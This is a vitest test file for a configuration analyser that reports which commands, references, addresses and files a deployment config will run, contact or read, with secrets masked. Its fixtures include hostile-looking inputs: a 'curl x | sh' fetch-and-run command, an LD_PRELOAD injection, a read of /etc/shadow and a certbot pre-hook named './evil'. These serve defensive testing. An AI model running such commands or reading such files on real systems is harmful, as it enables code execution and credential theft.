import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { referencesIn } from '../../../src/config/references/reference-syntax.ts';
import { textsIn } from '../../../src/config/references/texts.ts';
import { reachOf } from '../../../src/config/trust/reach.ts';
import { load, withProduction } from '../rig.ts';

const complete = readFileSync(join(import.meta.dirname, '..', 'complete.yaml'), 'utf8');
const inProduction = async (lines: string) =>
  (await reachOf(load(withProduction(lines))))
    .filter(({ environment }) => environment === 'production')
    .map(({ does, key, what }) => `${does} ${key.replace('environments.production.', '')}: ${what}`);

test('every command, reference and address of the complete configuration is in it', async () => {
  const loaded = load(complete);
  const { config } = loaded;
  const reach = await reachOf(loaded);
  const keys = (does: string) => reach.filter((one) => one.does === does).map(({ key }) => key);
  expect(keys('run').length).toBeGreaterThanOrEqual(loaded.facts.commands.length);
  const texts = textsIn(config);
  expect(keys('resolve')).toHaveLength(texts.flatMap(({ text }) => referencesIn(text)).length);
  const addresses = texts.filter(({ text }) => text.includes('://'));
  expect(addresses.length).toBeGreaterThan(10);
  expect(keys('contact')).toEqual(
    expect.arrayContaining([
      'environments.production.url',
      'environments.production.workload.server',
      'environments.production.workload',
      'environments.production.database.url',
      'environments.production.database.replicas[0].url',
      'environments.production.cache.url',
      'environments.production.certificates[0].domain',
      'environments.production.metrics.url',
      'environments.production.hosts.names[0]',
      'externalServices[0].statusPage',
      'notify.slack.webhook',
      'notify.pagerduty',
      'notify.statuspage',
      'tickets',
    ]),
  );
  expect(keys('contact').length).toBeGreaterThan(addresses.length);
});

test('a command with its variables: they choose what runs as well', async () => {
  expect(
    await inProduction(`workload:
  provider: command
  instances: [./list, 'a b', '{{environment}}', 3]
  stop: { command: [sh, -c, 'curl x | sh'], environment: { LD_PRELOAD: ./x.so, TOKEN: hunter22, HOME: '\${env:HOME}' } }`),
  ).toEqual([
    "run workload.instances: ./list 'a b' {{environment}} 3",
    "run workload.stop: LD_PRELOAD=./x.so TOKEN='‹secret›' HOME='${env:HOME}' sh -c 'curl x | sh'",
    'resolve workload.stop.environment.HOME: ${env:HOME}',
  ]);
});

test('references by their name, addresses without their secrets', async () => {
  expect(
    await inProduction(`url: https://u:hunter22@shop.example.com
database: { url: 'postgresql://\${env:U}:\${file:./pw}@db/x' }
cache: { url: '\${command:op read x}' }`),
  ).toEqual([
    'resolve database.url: ${env:U}',
    'resolve database.url: ${file:./pw}',
    'resolve cache.url: ${command:op read x}',
    'contact url: https://u:‹secret›@shop.example.com',
    'contact database.url: postgresql://${env:U}:${file:./pw}@db/x',
    'contact cache.url: ${command:op read x}',
  ]);
});

test('what is contacted by a name, and what is read', async () => {
  expect(
    await inProduction(`workload: { provider: ecs, region: eu-central-1, profile: ops, cluster: a, service: b }
logs: { provider: file, path: /etc/shadow }
hosts: { provider: ssh, names: [app-1], user: root, logDirectories: [/var/log] }
certificates: [{ domain: shop.example.com, renew: { provider: certbot, arguments: [--pre-hook, ./evil] } }]`),
  ).toEqual([
    'contact workload: AWS in eu-central-1 with your profile ops',
    'contact certificates[0].domain: shop.example.com:443',
    'run certificates[0].renew: certbot --pre-hook ./evil',
    'contact hosts.names[0]: ssh root@app-1',
    'read logs.path: /etc/shadow',
    'read hosts.logDirectories[0]: /var/log',
  ]);
});

test('a webhook is a secret, and its host is not', async () => {
  const loaded = load(
    `${withProduction('url: https://a.example')}notify: { slack: { webhook: 'https://hooks.slack.com/services/T/B/x' } }\n`,
  );
  expect((await reachOf(loaded)).find(({ key }) => key === 'notify.slack.webhook')).toMatchObject({
    does: 'contact',
    environment: undefined,
    what: 'https://hooks.slack.com/‹secret›',
  });
});

test('nothing where there is nothing', async () => {
  expect(await reachOf(load('version: 1\nservice: { name: shop }\nenvironments: { staging: {} }\n'))).toEqual([]);
});
